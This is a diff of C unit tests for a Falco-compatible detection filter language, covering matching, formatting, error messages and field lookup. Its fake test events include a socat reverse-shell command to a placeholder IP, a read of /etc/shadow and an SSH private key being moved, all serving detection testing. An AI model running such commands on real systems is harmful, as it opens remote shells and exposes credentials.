@@ -1,4 +1,25 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * The language is compiled in here, with four fields of the kinds its
+ * table can hold, so that each kind is tested whatever fields the table
+ * holds: an optional index and many values (as proc.aname), a required
+ * text argument (as container.mount.dest[/proc]), a Falco list field,
+ * and many numbers (as proc.apid). Before cmocka.h, whose fail() is a
+ * macro.
+ */
+#define T_ANAME (VG_F_COUNT + 0)
+#define T_MOUNT (VG_F_COUNT + 1)
+#define T_TYPES (VG_F_COUNT + 2)
+#define T_APID (VG_F_COUNT + 3)
+#define VG_FILTER_TEST_FIELDS						\
+	[T_ANAME] = FIELD("test.aname", VG_FILTER_STR,			\
+			  FD_ARG_OPT | FD_ARG_NUM | FD_MULTI),		\
+	[T_MOUNT] = FIELD("test.mount", VG_FILTER_STR, FD_ARG_REQ),	\
+	[T_TYPES] = FIELD("test.types", VG_FILTER_STR, FD_LIST),	\
+	[T_APID] = FIELD("test.apid", VG_FILTER_NUM,			\
+			 FD_ARG_OPT | FD_ARG_NUM | FD_MULTI),
+#include "../../src/filter/filter.c"
+
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -11,7 +32,6 @@
 #include <stdlib.h>
 #include <string.h>
 
-#include "filter/filter.h"
 #include "base/util.h"
 
 /* ---- fake events ------------------------------------------------------ */
@@ -513,11 +533,16 @@ static const struct error_case error_cases[] = {
 	/* strings */
 	{ "proc.name = \"sh", 13, "expected a closing '\"' for this string, found end of input" },
 	{ "proc.name = \"sh\\", 13, "expected a closing '\"'" },
-	{ "proc.name = \"s\\nh\"", 15,
-	  "unknown escape '\\n' in a quoted string; only \\\" and \\\\ are escapes" },
+	{ "proc.name = \"s\\qh\"", 15,
+	  "unknown escape '\\q' in a quoted string; the escapes are" },
+	{ "proc.name = 's\\\"h'", 15, "escape '\\\"' in a '-quoted string; write \" alone" },
+	{ "proc.name = \"s\\'h\"", 15, "escape '\\'' in a \"-quoted string; write ' alone" },
+	{ "proc.name = \"s\\x4\"", 15, "expected two hex digits after '\\x'" },
+	{ "proc.name = 'sh", 13, "expected a closing ''' for this string, found end of input" },
+	{ "proc.name = a'b'", 14, "''' inside a bare word; quote the whole value" },
 	{ "proc.name = \"s\\\xc3\xa9\"", 15, "unknown escape (byte 0xc3 after '\\')" },
 	{ "proc.name = a\"b\"", 14, "'\"' inside a bare word; quote the whole value" },
-	{ "proc.name = \"a\tb\"", 15, "control character 0x09 in a quoted string" },
+	{ "proc.name = \"a\x01\"", 15, "control character 0x01" },
 	{ "proc.name = a\x01", 14, "control character 0x01" },
 	{ "proc.name = a\x7f", 14, "control character 0x7f" },
 	/* types */
@@ -526,13 +551,14 @@ static const struct error_case error_cases[] = {
 	{ "user.uid = 1.5", 12, "expected a number" },
 	{ "user.uid = -", 12, "expected a number" },
 	{ "user.uid = --1", 12, "expected a number" },
-	{ "user.uid = +1", 12, "expected a number" },
+	{ "user.uid = 0x", 12, "expected a number" },
+	{ "user.uid = 0xg1", 12, "expected a number" },
 	{ "user.uid = \"\"", 12, "expected a number after '=' (user.uid is a number), found '\"\"'" },
 	{ "user.uid = 9223372036854775808", 12, "number '9223372036854775808' is out of range" },
 	{ "user.uid = -9223372036854775809", 12, "is out of range" },
-	{ "proc.name < 3", 11, "'<' needs a number field, found proc.name (a string)" },
-	{ "proc.name >= 3", 11, "'>=' needs a number field, found proc.name (a string)" },
-	{ "container.label.x > 3", 19, "'>' needs a number field" },
+	{ "user.uid pmatch (/a)", 10, "'pmatch' needs a string field, found user.uid (a number)" },
+	{ "user.uid icontains 1", 10, "'icontains' needs a string field" },
+	{ "user.uid bcontains 01", 10, "'bcontains' needs a string field" },
 	{ "user.uid contains 1", 10, "'contains' needs a string field, found user.uid (a number)" },
 	{ "user.uid glob 1*", 10, "'glob' needs a string field" },
 	{ "fd.cport startswith 4", 10, "'startswith' needs a string field" },
@@ -546,7 +572,9 @@ static const struct error_case error_cases[] = {
 	/* lists */
 	{ "user.uid in 0", 13, "expected '(' after 'in', found '0'" },
 	{ "user.uid in", 12, "expected '(' after 'in', found end of input" },
-	{ "user.uid in ()", 14, "expected a value after '(', found ')'" },
+	{ "user.uid in (,)", 14, "expected a value after '(', found ','" },
+	{ "user.uid in (1,)", 16, "expected a value after ',', found ')'" },
+	{ "proc.name in (a, (b, )", 22, "expected a value after ',', found ')'" },
 	{ "user.uid in (1,)", 16, "expected a value after ',', found ')'" },
 	{ "user.uid in (1 2)", 16, "expected ',' or ')' in the list, found '2'" },
 	{ "user.uid in (1", 15, "expected ',' or ')' in the list, found end of input" },
@@ -977,6 +1005,528 @@ static void test_file_events(void **state)
 	vg_filter_free(f);
 }
 
+/* ---- Falco's language ------------------------------------------------- */
+
+/* Events for Falco's operators, quoting, arguments, multi-valued and
+ * list fields, evt.res and the syscall names with a file action. */
+struct lang_ev {
+	const char *type, *action, *name, *fd_name, *cmdline;
+	bool has_res;
+	int64_t res;
+	const char *aname[4];  /* test.aname: the process, its parent...; NULL ends */
+	int64_t apid[4];       /* test.apid, as many as aname */
+	const char *types[4];  /* test.types; NULL ends, none: absent */
+	const char *mount;     /* test.mount[KEY]: KEY's value */
+	const char *mount_val;
+};
+
+/* 0: socat run by bash under sshd; 1: cat opening /etc/shadow, which
+ * succeeds; 2: Python3 failing to open /etcx/passwd (ENOENT); 3: mv
+ * renaming a key, the call in progress (EINPROGRESS). */
+static const struct lang_ev lang_evs[] = {
+	{ .type = "exec", .name = "socat",
+	  .cmdline = "socat TCP4:1.2.3.4:443 EXEC:/bin/SH",
+	  .aname = { "socat", "bash", "sshd" }, .apid = { 100, 50, 1 },
+	  .types = { "ipv4", "file" }, .mount = "/proc", .mount_val = "ro" },
+	{ .type = "open", .name = "cat", .fd_name = "/etc/shadow",
+	  .cmdline = "cat /etc/shadow", .has_res = true, .res = 3,
+	  .aname = { "cat", "sh" }, .apid = { 200, 100 }, .types = { "file" } },
+	{ .type = "open", .name = "Python3", .fd_name = "/etcx/passwd",
+	  .cmdline = "Python3 -c 'import socket'", .has_res = true, .res = -2,
+	  .aname = { "Python3" }, .apid = { 300 } },
+	{ .type = "file", .action = "rename", .name = "mv",
+	  .fd_name = "/home/u/.ssh/id_rsa", .cmdline = "mv a\\ b\\",
+	  .has_res = true, .res = -115,
+	  .types = { "ipv4", "ipv6", "unix" } },
+};
+
+static const char *last_mount_key;
+
+static int str_out(const char *s, struct vg_fval *ret)
+{
+	if (!s)
+		return 0;
+	ret->s = s;
+	ret->len = strlen(s);
+	return 1;
+}
+
+static int lang_get(void *ctx, int id, const char *key, size_t key_len,
+		    struct vg_fval *ret)
+{
+	const struct lang_ev *e = ctx;
+	uint32_t i = ret->idx;
+	size_t n = 0;
+
+	if (key)
+		assert_int_equal(strlen(key), key_len);
+	else
+		assert_int_equal(key_len, 0);
+	if (id != T_ANAME && id != T_APID && id != T_TYPES)
+		assert_int_equal(i, 0);
+	if (id != T_ANAME && id != T_APID && id != T_MOUNT)
+		assert_null(key);
+	switch (id) {
+	case VG_F_EVT_TYPE: return str_out(e->type, ret);
+	case VG_F_FILE_ACTION: return str_out(e->action, ret);
+	case VG_F_PROC_NAME: return str_out(e->name, ret);
+	case VG_F_FD_NAME: return str_out(e->fd_name, ret);
+	case VG_F_PROC_CMDLINE: return str_out(e->cmdline, ret);
+	case VG_F_EVT_RES:
+		ret->n = e->res;
+		return e->has_res;
+	case T_ANAME:
+	case T_APID:
+		while (n < 4 && e->aname[n])
+			n++;
+		if (key) { /* [N]: that one only */
+			if (i > 0 || (size_t)atoi(key) >= n)
+				return 0;
+			i = (uint32_t)atoi(key);
+		} else if (i >= n) {
+			return 0;
+		}
+		ret->n = e->apid[i];
+		return str_out(e->aname[i], ret);
+	case T_TYPES:
+		return i < 4 ? str_out(e->types[i], ret) : 0;
+	case T_MOUNT:
+		assert_non_null(key);
+		last_mount_key = key;
+		return e->mount && strcmp(key, e->mount) == 0
+			       ? str_out(e->mount_val, ret) : 0;
+	}
+	fail_msg("field %d asked for", id);
+	return 0;
+}
+
+static const struct match_case lang_cases[] = {
+	/* quoting: single and double quotes, Falco's escapes */
+	{ "proc.name = 'socat'", "1000" },
+	{ "proc.name = \"socat\"", "1000" },
+	{ "proc.name='socat'", "1000" },
+	{ "proc.name in ('socat', \"cat\", mv)", "1101" },
+	{ "proc.cmdline contains 'EXEC:'", "1000" },
+	{ "proc.cmdline contains \"-c 'import\"", "0010" },
+	{ "proc.cmdline contains '-c \\'import'", "0010" },
+	{ "proc.name = \"\\x73ocat\"", "1000" },
+	{ "proc.name = 'soc\\x61t'", "1000" },
+	{ "proc.name = \"s\\/o\\bc\"", "0000" },
+	{ "proc.name = \"\"", "0000" },
+	{ "proc.name = ''", "0000" },
+	{ "proc.name != ''", "1111" },
+	/* Falco's "\ " is a backslash, and a bare word may hold one */
+	{ "proc.cmdline contains \"\\ \"", "0001" },
+	{ "(proc.cmdline contains \"\\ \" or proc.cmdline endswith \\)", "0001" },
+	{ "proc.cmdline endswith \\", "0001" },
+	{ "proc.cmdline endswith \"\\\\\"", "0001" },
+	/* empty lists match nothing; lists of lists are flattened */
+	{ "proc.name in ()", "0000" },
+	{ "proc.name in ( )", "0000" },
+	{ "not proc.name in ()", "1111" },
+	{ "proc.name intersects ()", "0000" },
+	{ "fd.name pmatch ()", "0000" },
+	{ "test.types intersects ()", "0000" },
+	{ "evt.res in ()", "0000" },
+	{ "proc.name in (socat, (cat, (mv)), ())", "1101" },
+	{ "proc.name in(cat)", "0100" },
+	/* icontains: ASCII either case, nothing else folded */
+	{ "proc.cmdline icontains exec:/bin/sh", "1000" },
+	{ "proc.cmdline contains exec:/bin/sh", "0000" },
+	{ "proc.name icontains PYTHON", "0010" },
+	{ "proc.name icontains pYtHoN3", "0010" },
+	{ "proc.name icontains ''", "1111" },
+	{ "proc.name icontains python4", "0000" },
+	{ "proc.name icontains \"PYTHON3\\xc3\\x89\"", "0000" },
+	/* iglob */
+	{ "proc.name iglob 'py*'", "0010" },
+	{ "proc.name glob 'py*'", "0000" },
+	{ "proc.name iglob '[p]YTHON?'", "0010" },
+	{ "proc.name iglob '[!p]*'", "1101" },
+	/* bcontains, bstartswith: hex */
+	{ "proc.name bcontains 736f636174", "1000" },
+	{ "proc.name bcontains 6F63", "1000" },
+	{ "proc.name bstartswith 6d76", "0001" },
+	{ "proc.name bstartswith 76", "0000" },
+	{ "proc.name bcontains ''", "1111" },
+	/* pmatch: path prefixes, by components */
+	{ "fd.name pmatch (/etc)", "0100" },
+	{ "fd.name pmatch (/etc/)", "0100" },
+	{ "fd.name pmatch (//etc//)", "0100" },
+	{ "fd.name pmatch (/etc/shadow)", "0100" },
+	{ "fd.name pmatch (/etc/shadow/x)", "0000" },
+	{ "fd.name pmatch (/et)", "0000" },
+	{ "fd.name pmatch (/)", "0111" },
+	{ "fd.name pmatch (/home/*/.ssh)", "0001" },
+	{ "fd.name pmatch (/ho*)", "0001" },
+	{ "fd.name pmatch ('/etc?')", "0010" },
+	{ "fd.name pmatch (/nope, /etcx)", "0010" },
+	{ "fd.name pmatch (/etc, \"/home/u\")", "0101" },
+	/* intersects and in: on a list field, any and all */
+	{ "test.types intersects (ipv4, ipv6)", "1001" },
+	{ "test.types in (ipv4, ipv6, unix)", "0001" },
+	{ "test.types in (file, ipv4)", "1100" },
+	{ "test.types exists", "1101" },
+	{ "not test.types exists", "0010" },
+	{ "proc.name intersects (cat, mv)", "0101" },
+	/* a multi-valued field: true for any value; [N] one value */
+	{ "test.aname = bash", "1000" },
+	{ "test.aname[1] = bash", "1000" },
+	{ "test.aname[2] = sshd", "1000" },
+	{ "test.aname[1] = sshd", "0000" },
+	{ "test.aname[0] = socat", "1000" },
+	{ "test.aname['1'] = bash", "1000" },
+	{ "test.aname in (sh, sshd)", "1100" },
+	{ "test.aname != socat", "1110" },
+	{ "test.aname exists", "1110" },
+	{ "test.aname[3] exists", "0000" },
+	{ "test.aname startswith Py", "0010" },
+	{ "test.apid = 1", "1000" },
+	{ "test.apid[1] = 100", "0100" },
+	{ "test.apid > 150", "0110" },
+	{ "test.apid in (50, 300)", "1010" },
+	/* a required argument, passed as the key */
+	{ "test.mount[/proc] = ro", "1000" },
+	{ "test.mount['/proc'] exists", "1000" },
+	{ "test.mount[\"/pro c\"] exists", "0000" },
+	/* evt.res: Falco's text, or the number for an integer */
+	{ "evt.res = SUCCESS", "0100" },
+	{ "evt.res = ENOENT", "0010" },
+	{ "evt.res = EINPROGRESS", "0001" },
+	{ "evt.res startswith E", "0011" },
+	{ "evt.res != SUCCESS", "0011" },
+	{ "evt.res in (ENOENT, EINPROGRESS)", "0011" },
+	{ "evt.res in (0, ENOENT)", "0010" },
+	{ "(evt.res >= 0 or evt.res = EINPROGRESS)", "0101" },
+	{ "evt.res = -2", "0010" },
+	{ "evt.res < 0", "0011" },
+	{ "evt.res = 3", "0100" },
+	{ "evt.res = 0x3", "0100" },
+	{ "evt.res = \"3\"", "0100" },
+	{ "evt.res exists", "0111" },
+	{ "evt.res glob 'E*S'", "0001" },
+	/* strings compare by bytes with <, <=, >, >= */
+	{ "proc.name < d", "0110" },
+	{ "proc.name >= socat", "1000" },
+	{ "proc.name <= cat", "0110" },
+	{ "proc.name > socat", "0000" },
+	/* Falco's syscall names that are vigil's file events with an action */
+	{ "evt.type = rename", "0001" },
+	{ "evt.type in (renameat2, mkdir)", "0001" },
+	{ "evt.type in (rename, open)", "0111" },
+	{ "evt.type in (open, execve, renameat)", "1111" },
+	{ "evt.type intersects (renameat)", "0001" },
+	{ "evt.type != rename", "1110" },
+	{ "evt.type = mkdir", "0000" },
+	{ "evt.type in (file, rename)", "0001" },
+	{ "not evt.type in (rename) and proc.name = mv", "0000" },
+	/* numbers: hex and a sign, as Falco's */
+	{ "test.apid = 0x64", "1100" },
+	{ "test.apid = +50", "1000" },
+};
+
+static void test_falco_match(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < VG_ARRAY_SIZE(lang_cases); i++) {
+		const struct match_case *c = &lang_cases[i];
+		struct vg_filter_error err;
+		struct vg_filter *f = NULL;
+
+		if (vg_filter_compile(c->text, &f, &err) != 0)
+			fail_msg("case %zu (%s): column %d: %s", i, c->text,
+				 err.column, err.msg);
+		for (size_t e = 0; e < VG_ARRAY_SIZE(lang_evs); e++) {
+			bool want = c->want[e] == '1';
+
+			if (vg_filter_match(f, lang_get, (void *)&lang_evs[e]) != want)
+				fail_msg("case %zu (%s): event %zu %s, want %s", i,
+					 c->text, e, want ? "fails" : "passes",
+					 want ? "passes" : "fails");
+		}
+		check_round_trip(f, c->text);
+		vg_filter_free(f);
+	}
+}
+
+static const struct format_case falco_format_cases[] = {
+	{ "proc.name = 'socat'", "proc.name = socat" },
+	{ "proc.name = 'a b'", "proc.name = \"a b\"" },
+	{ "proc.name = 'say \"hi\"'", "proc.name = \"say \\\"hi\\\"\"" },
+	{ "proc.name = \"it's\"", "proc.name = \"it's\"" },
+	{ "proc.name = \"a\\tb\\x01\\n\\r\\f\\b\\/\"", "proc.name = \"a\\tb\\x01\\n\\r\\f\\b/\"" },
+	{ "proc.name = \"\\ \"", "proc.name = \"\\\\\"" },
+	{ "proc.name in ()", "proc.name in ()" },
+	{ "proc.name in (a, (b, c), ())", "proc.name in (a, b, c)" },
+	{ "proc.name pmatch (/etc, \"/a b\")", "proc.name pmatch (/etc, \"/a b\")" },
+	{ "evt.type = rename", "evt.type = file and file.action = rename" },
+	{ "evt.type in (open, renameat, mkdir, execve)",
+	  "evt.type in (open, exec) or evt.type = file and file.action in (rename, mkdir)" },
+	{ "evt.type in (rename, renameat)", "evt.type = file and file.action = rename" },
+	{ "evt.type != renameat2", "not (evt.type = file and file.action = rename)" },
+	{ "evt.type = rename and proc.name = mv",
+	  "evt.type = file and file.action = rename and proc.name = mv" },
+	{ "proc.name bcontains CAFEbabe", "proc.name bcontains cafebabe" },
+	{ "proc.name bstartswith ''", "proc.name bstartswith \"\"" },
+	{ "evt.res = EINPROGRESS", "evt.res = EINPROGRESS" },
+	{ "evt.res = 0x10", "evt.res = 16" },
+	{ "evt.res in (0, ENOENT)", "evt.res in (0, ENOENT)" },
+	{ "evt.res startswith 1", "evt.res startswith 1" },
+	{ "test.aname[2] = sshd", "test.aname[2] = sshd" },
+	{ "test.aname['2'] = sshd", "test.aname[2] = sshd" },
+	{ "test.mount['/a b'] exists", "test.mount[\"/a b\"] exists" },
+	{ "test.mount[/proc*] exists", "test.mount[/proc*] exists" },
+	{ "test.mount['say \"x\"'] exists", "test.mount['say \"x\"'] exists" },
+	{ "container.label[app] = x", "container.label.app = x" },
+	{ "container.label[\"a b\"] = x", "container.label[\"a b\"] = x" },
+	{ "proc.name icontains A and proc.name iglob 'x*'",
+	  "proc.name icontains A and proc.name iglob x*" },
+	{ "test.types intersects (a,b)", "test.types intersects (a, b)" },
+};
+
+static void test_falco_format(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < VG_ARRAY_SIZE(falco_format_cases); i++) {
+		const struct format_case *c = &falco_format_cases[i];
+		struct vg_filter_error err;
+		struct vg_filter *f = NULL;
+		char buf[512];
+
+		if (vg_filter_compile(c->text, &f, &err) != 0)
+			fail_msg("case %zu (%s): %s", i, c->text, err.msg);
+		vg_filter_format(f, buf, sizeof(buf));
+		if (strcmp(buf, c->want) != 0)
+			fail_msg("case %zu (%s): '%s', want '%s'", i, c->text, buf,
+				 c->want);
+		check_round_trip(f, c->text);
+		vg_filter_free(f);
+	}
+}
+
+static const struct error_case falco_error_cases[] = {
+	/* refused: Falco's, with the reason */
+	{ "fd.sip.name = x", 1, "fd.sip.name: not available in vigil: " },
+	{ "proc.name = a or fd.lip.name exists", 18, "fd.lip.name: not available in vigil: " },
+	{ "evt.rawarg.res < 0", 1, "evt.rawarg.res: not available in vigil: " },
+	{ "evt.type = init_module", 12, "evt.type init_module: not available in vigil: " },
+	{ "evt.type in (open, finit_module)", 20, "evt.type finit_module: not available in vigil: " },
+	{ "proc.name regex 'a.*'", 11, "regex: not available in vigil: " },
+	/* unknown stays unknown */
+	{ "fd.nope = x", 1, "unknown field 'fd.nope'" },
+	/* list fields */
+	{ "test.types = ipv4", 12, "'=' does not apply to test.types, a list field: use in, intersects or exists" },
+	{ "test.types contains ip", 12, "'contains' does not apply to test.types" },
+	/* arguments */
+	{ "proc.name[1] = x", 10, "proc.name takes no [argument]" },
+	{ "test.mount = x", 11, "test.mount needs an argument: test.mount[...]" },
+	{ "test.mount exists", 11, "test.mount needs an argument" },
+	{ "test.aname[x] = a", 12, "expected an index (decimal digits) as the argument of test.aname, found 'x'" },
+	{ "test.aname[-1] = a", 12, "expected an index" },
+	{ "test.aname[] = a", 11, "expected an argument between the brackets of test.aname" },
+	{ "test.aname[1 = a", 13, "expected ']' to close the argument of test.aname, found ' '" },
+	{ "test.aname[1", 13, "expected ']' to close the argument of test.aname, found end of input" },
+	{ "test.mount[\"a\\\"b\"] exists", 14, "escape in the argument of test.mount" },
+	{ "test.mount['/a exists", 12, "expected a closing ''' for this argument" },
+	{ "test.mount[a[b]] exists", 13, "expected ']' to close the argument" },
+	{ "container.label.app[1] = x", 20, "container.label.app has its key already" },
+	{ "container.label[] = x", 16, "expected an argument between the brackets" },
+	/* operators' values */
+	{ "proc.name bcontains xyz1", 21, "expected hex digits, two a byte, after 'bcontains', found 'xyz1'" },
+	{ "proc.name bstartswith abc", 23, "expected hex digits" },
+	{ "proc.name pmatch /etc", 18, "expected '(' after 'pmatch', found '/etc'" },
+	{ "proc.name intersects x", 22, "expected '(' after 'intersects', found 'x'" },
+	{ "proc.name iglob \"[a\"", 17, "expected a ']' to close the '[' of this glob pattern" },
+	{ "proc.name in (a", 16, "expected ',' or ')' in the list, found end of input" },
+	{ "user.uid in ((1)", 17, "expected ',' or ')' in the list, found end of input" },
+	{ "evt.type in (open, (bogus))", 21, "unknown event type 'bogus'" },
+};
+
+static void test_falco_errors(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < VG_ARRAY_SIZE(falco_error_cases); i++)
+		check_error(falco_error_cases[i].text, falco_error_cases[i].column,
+			    falco_error_cases[i].msg);
+}
+
+/* A list's nesting counts as nesting. */
+static void test_falco_list_depth(void **state)
+{
+	char text[256];
+	size_t n = 0;
+
+	(void)state;
+	n += (size_t)snprintf(text, sizeof(text), "proc.name in ");
+	for (int i = 0; i < VG_FILTER_MAX_DEPTH + 1; i++)
+		text[n++] = '(';
+	text[n++] = 'a';
+	for (int i = 0; i < VG_FILTER_MAX_DEPTH + 1; i++)
+		text[n++] = ')';
+	text[n] = '\0';
+	check_error(text, 14 + VG_FILTER_MAX_DEPTH, "nesting deeper than");
+	/* and the deepest allowed compiles */
+	memmove(text + 13, text + 14, strlen(text + 14) + 1);
+	text[strlen(text) - 1] = '\0';
+	compile_ok(text);
+}
+
+/* The argument reaches the getter as it was written, NUL-terminated. */
+static void test_falco_arg_key(void **state)
+{
+	struct vg_filter *f = NULL;
+
+	(void)state;
+	assert_int_equal(vg_filter_compile("test.mount[/proc*] exists", &f, NULL), 0);
+	last_mount_key = NULL;
+	assert_false(vg_filter_match(f, lang_get, (void *)&lang_evs[0]));
+	assert_non_null(last_mount_key);
+	assert_string_equal(last_mount_key, "/proc*");
+	assert_true(vg_filter_uses_field(f, T_MOUNT));
+	vg_filter_free(f);
+}
+
+/* Falco's text of a result, for each kind. */
+static void test_falco_res_text(void **state)
+{
+	static const struct {
+		int64_t n;
+		const char *want;
+	} cases[] = {
+		{ 0, "SUCCESS" }, { 42, "SUCCESS" }, { -1, "EPERM" },
+		{ -13, "EACCES" }, { -115, "EINPROGRESS" }, { -41, "-41" },
+		{ -512, "ERESTARTSYS" }, { -4095, "-4095" },
+		{ INT64_MIN, "-9223372036854775808" },
+	};
+	char b[24];
+	const char *s;
+	size_t n;
+
+	(void)state;
+	for (size_t i = 0; i < VG_ARRAY_SIZE(cases); i++) {
+		n = res_text(cases[i].n, b, &s);
+		assert_int_equal(n, strlen(cases[i].want));
+		assert_memory_equal(s, cases[i].want, n);
+	}
+}
+
+static void test_field_lookup(void **state)
+{
+	static const struct {
+		const char *name;
+		int id;
+		size_t off, len;
+	} ok[] = {
+		{ "proc.name", VG_F_PROC_NAME, 0, 0 },
+		{ "container.label.app", VG_F_CONTAINER_LABEL, 16, 3 },
+		{ "container.label[a b]", -1, 0, 0 }, /* a bare argument has no space */
+		{ "container.label['a b']", VG_F_CONTAINER_LABEL, 17, 3 },
+		{ "test.aname[2]", T_ANAME, 11, 1 },
+		{ "test.aname", T_ANAME, 0, 0 },
+		{ "test.mount[/proc*]", T_MOUNT, 11, 6 },
+		{ "test.mount[\"/a b\"]", T_MOUNT, 12, 4 },
+		{ "evt.res", VG_F_EVT_RES, 0, 0 },
+	};
+	static const struct {
+		const char *name;
+		int column;
+		const char *msg;
+	} bad[] = {
+		{ "proc.nmae", 1, "unknown field 'proc.nmae' (did you mean proc.name?)" },
+		{ "fd.sip.name", 1, "fd.sip.name: not available in vigil: " },
+		{ "proc.name x", 10, "expected the end of the field name, found ' '" },
+		{ "proc.name,", 10, "expected the end of the field name, found ','" },
+		{ "test.mount", 11, "test.mount needs an argument" },
+		{ "test.aname[x]", 12, "expected an index" },
+		{ "", 1, "expected a field name" },
+		{ "proc.name\n", 10, "control character 0x0a" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < VG_ARRAY_SIZE(ok); i++) {
+		struct vg_filter_error err;
+		int id = -7, r;
+		size_t off = 77, len = 77;
+
+		r = vg_filter_field_lookup(ok[i].name, strlen(ok[i].name), &id,
+					   &off, &len, &err);
+		if (ok[i].id < 0) {
+			assert_int_equal(r, -EINVAL);
+			assert_int_equal(id, -7);
+			assert_int_equal(off, 77);
+			assert_int_equal(len, 77);
+			continue;
+		}
+		if (r != 0)
+			fail_msg("%s: %s", ok[i].name, err.msg);
+		assert_int_equal(id, ok[i].id);
+		assert_int_equal(off, ok[i].off);
+		assert_int_equal(len, ok[i].len);
+	}
+	for (size_t i = 0; i < VG_ARRAY_SIZE(bad); i++) {
+		struct vg_filter_error err;
+		int id = -7;
+		size_t off = 77, len = 77;
+
+		assert_int_equal(vg_filter_field_lookup(bad[i].name, strlen(bad[i].name),
+							&id, &off, &len, &err),
+				 -EINVAL);
+		assert_int_equal(id, -7);
+		assert_int_equal(off, 77);
+		assert_int_equal(len, 77);
+		if (err.column != bad[i].column || !strstr(err.msg, bad[i].msg))
+			fail_msg("%s: column %d '%s', want column %d '%s'", bad[i].name,
+				 err.column, err.msg, bad[i].column, bad[i].msg);
+	}
+	/* only the @len bytes count; a NULL @err is fine */
+	{
+		int id = -1;
+		size_t off, len;
+
+		assert_int_equal(vg_filter_field_lookup("proc.name = sh", 9, &id, &off,
+							&len, NULL), 0);
+		assert_int_equal(id, VG_F_PROC_NAME);
+		assert_int_equal(vg_filter_field_lookup("test.aname[12]]", 14, &id,
+							&off, &len, NULL), 0);
+		assert_int_equal(id, T_ANAME);
+		assert_int_equal(off, 11);
+		assert_int_equal(len, 2);
+		assert_int_equal(vg_filter_field_lookup(NULL, 0, &id, &off, &len, NULL),
+				 -EINVAL);
+	}
+}
+
+/* A multi-valued field asks no more than VG_FILTER_MAX_VALUES values of
+ * a getter that never says it is done. */
+static int endless_get(void *ctx, int id, const char *key, size_t key_len,
+		       struct vg_fval *ret)
+{
+	unsigned *calls = ctx;
+
+	(void)id, (void)key, (void)key_len;
+	(*calls)++;
+	ret->s = "x";
+	ret->len = 1;
+	return 1;
+}
+
+static void test_falco_values_bound(void **state)
+{
+	struct vg_filter *f = NULL;
+	unsigned calls = 0;
+
+	(void)state;
+	assert_int_equal(vg_filter_compile("test.aname = y", &f, NULL), 0);
+	assert_false(vg_filter_match(f, endless_get, &calls));
+	assert_int_equal(calls, VG_FILTER_MAX_VALUES);
+	vg_filter_free(f);
+	calls = 0;
+	assert_int_equal(vg_filter_compile("test.types in (x)", &f, NULL), 0);
+	assert_true(vg_filter_match(f, endless_get, &calls));
+	assert_int_equal(calls, VG_FILTER_MAX_VALUES);
+	vg_filter_free(f);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -989,6 +1539,14 @@ int main(void)
 		cmocka_unit_test(test_api),
 		cmocka_unit_test(test_fields),
 		cmocka_unit_test(test_file_events),
+		cmocka_unit_test(test_falco_match),
+		cmocka_unit_test(test_falco_format),
+		cmocka_unit_test(test_falco_errors),
+		cmocka_unit_test(test_falco_list_depth),
+		cmocka_unit_test(test_falco_arg_key),
+		cmocka_unit_test(test_falco_res_text),
+		cmocka_unit_test(test_field_lookup),
+		cmocka_unit_test(test_falco_values_bound),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
